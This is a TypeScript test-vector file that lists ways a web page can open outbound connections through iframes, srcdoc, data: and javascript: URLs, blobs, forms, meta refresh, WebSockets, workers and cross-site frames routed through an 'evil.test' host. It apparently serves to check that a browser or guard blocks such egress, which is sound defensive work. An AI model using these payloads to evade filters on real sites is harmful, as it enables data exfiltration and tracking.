import { markup, script, type VectorGroup } from '../vector.ts'

/** Documents within documents. */
export const frames: VectorGroup = {
  group: 'frames',
  vectors: [
    markup('iframe', '<iframe src="URL"></iframe>'),
    markup('iframe by a name', '<iframe src="NAMED"></iframe>'),
    markup('iframe in a sandbox', '<iframe sandbox="allow-scripts" src="URL"></iframe>'),
    markup('iframe loaded lazily', '<iframe loading="lazy" src="URL"></iframe>'),
    markup('iframe without credentials', '<iframe credentialless src="URL"></iframe>'),
    markup('iframe of text with an image', '<iframe srcdoc="<img src=URL>"></iframe>'),
    markup(
      'iframe of text with a script',
      "<iframe srcdoc=\"<script>fetch('URL',{mode:'no-cors'})</script>\"></iframe>",
    ),
    markup(
      'iframe of text in a sandbox, with fetch',
      '<iframe sandbox="allow-scripts" srcdoc="<script>fetch(\'URL\',{mode:\'no-cors\'})</script>"></iframe>',
    ),
    markup(
      'iframe of text in a sandbox, with a WebSocket',
      '<iframe sandbox="allow-scripts" srcdoc="<script>self.s = new WebSocket(\'WSURL\')</script>"></iframe>',
      { watchMs: 2_000, unnamed: true },
    ),
    markup('iframe of data', '<iframe src="data:text/html,<img src=URL>"></iframe>'),
    markup('iframe of data with a script', '<iframe src="data:text/html,<script>location=\'URL\'</script>"></iframe>'),
    markup('iframe of javascript', '<iframe src="javascript:\'<img src=URL>\'"></iframe>'),
    script(
      'iframe of a blob',
      'const f = document.createElement("iframe"); f.src = webkitURL.createObjectURL(new Blob(["<img src=URL>"], { type: "text/html" })); document.body.append(f)',
    ),
    script(
      'iframe that is written',
      'const f = document.createElement("iframe"); document.body.append(f); f.contentDocument.write("<img src=URL>")',
    ),
    script(
      'fetch of an empty iframe',
      'const f = document.createElement("iframe"); document.body.append(f); f.contentWindow.fetch("URL", { mode: "no-cors" }).catch(() => {})',
    ),
    script(
      'WebSocket of an empty iframe',
      'const f = document.createElement("iframe"); document.body.append(f); window.s = new f.contentWindow.WebSocket("WSURL")',
    ),
    script(
      'open of an empty iframe',
      'const f = document.createElement("iframe"); document.body.append(f); f.contentWindow.open("URL")',
      { stoppedBy: 'guard' },
    ),
    script(
      'location of an iframe',
      'const f = document.createElement("iframe"); document.body.append(f); f.contentWindow.location = "URL"',
    ),
    markup(
      'form into an iframe',
      '<iframe name="n"></iframe><form action="URL" target="n"></form><script>document.forms[0].submit()</script>',
    ),
    markup(
      'link into an iframe',
      '<iframe name="n"></iframe><a href="URL" target="n">x</a><script>document.links[0].click()</script>',
    ),
    markup('meta refresh in an iframe', '<iframe srcdoc="<meta http-equiv=refresh content=\'0;url=URL\'>"></iframe>'),
    markup('frameset', '<!doctype html><frameset><frame src="URL"></frameset>'),
    markup('object as a frame', '<object data="URL" type="text/html"></object>'),
    markup('embed as a frame', '<embed src="URL" type="text/html">'),
    markup(
      'fenced frame',
      '<fencedframe></fencedframe><script>try { document.querySelector("fencedframe").config = new FencedFrameConfig("https://ADDRESS:CPORT/PATH") } catch {}</script>',
      { stoppedBy: 'browser', unnamed: true },
    ),
    {
      name: 'iframe that redirects',
      page: (aim, path) => `<iframe src="${aim.evil(`${path}/hop`)}"></iframe>`,
      routes: {
        hop: (aim, path) => (_request, response) => response.writeHead(302, { location: aim.canary(path) }).end(),
      },
    },
    {
      name: 'image in a frame of another site',
      page: (aim, path) => `<iframe src="${aim.evil(`${path}/other`).replace('evil.test', 'other.example')}"></iframe>`,
      routes: {
        other: (aim, path) => (_request, response) =>
          response.writeHead(200, { 'content-type': 'text/html' }).end(`<img src="${aim.canary(path)}">`),
      },
      watchMs: 800,
    },
    {
      name: 'fetch, WebSocket and worker in a frame of another site',
      page: (aim, path) => `<iframe src="${aim.evil(`${path}/other`).replace('evil.test', 'other.example')}"></iframe>`,
      routes: {
        other: (aim, path) => (_request, response) =>
          response
            .writeHead(200, { 'content-type': 'text/html' })
            .end(
              `<script>const u = ${JSON.stringify(aim.canary(path))}; fetch(u, { mode: 'no-cors' }).catch(() => {}); new WebSocket(u.replace('http', 'ws')); new Worker('data:text/javascript,fetch(' + JSON.stringify(u) + ',{mode:"no-cors"})')</script>`,
            ),
      },
      watchMs: 800,
    },
    {
      name: 'frame of another site that moves the whole page',
      page: (aim, path) =>
        `<iframe sandbox="allow-scripts allow-top-navigation" src="${aim.evil(`${path}/other`).replace('evil.test', 'other.example')}"></iframe>`,
      routes: {
        other: (aim, path) => (_request, response) =>
          response
            .writeHead(200, { 'content-type': 'text/html' })
            .end(`<script>top.location = ${JSON.stringify(aim.canary(path))}</script>`),
      },
      watchMs: 800,
    },
    script(
      'a frame that is gone at once',
      'const f = document.createElement("iframe"); f.src = "URL"; document.body.append(f); f.remove(); const g = f.cloneNode(); document.body.append(g)',
    ),
  ],
}
